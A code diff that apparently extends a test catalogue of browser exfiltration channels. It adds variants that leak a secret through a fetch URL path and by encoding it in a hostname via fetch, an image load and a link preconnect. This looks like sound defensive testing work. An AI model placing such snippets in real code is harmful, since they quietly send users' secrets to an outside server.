@@ -36,6 +36,33 @@ export const ADDRESSES: readonly Attack[] = [
     },
     { unwritten: true },
   ),
+  variant('11g', 'fetch GET, value in the path', (secret) => fetch(`${secret.sink}${secret.value}`)),
+  variant(
+    '11h',
+    'fetch GET, value in the name of a host',
+    (secret) => fetch(`https://${secret.value}${secret.domain}/`, { mode: 'no-cors' }),
+    {
+      sign: 'host',
+    },
+  ),
+  variant(
+    '11i',
+    'image, value in the name of a host',
+    (secret) => void element('img', { src: `https://${secret.value}${secret.domain}/image.png` }),
+    {
+      sign: 'host',
+    },
+  ),
+  variant(
+    '87',
+    'link rel=preconnect, value in the name of a host',
+    (secret) => {
+      document.head.append(
+        Object.assign(document.createElement('link'), { rel: 'preconnect', href: `https://${secret.value}${secret.domain}` }),
+      );
+    },
+    { sign: 'host' },
+  ),
   row('12', 'EventSource, value in the query', (secret) => void new EventSource(address(secret, 'events'))),
   row('35', 'link rel=prefetch', (secret) => {
     document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: address(secret, 'prefetch') }));
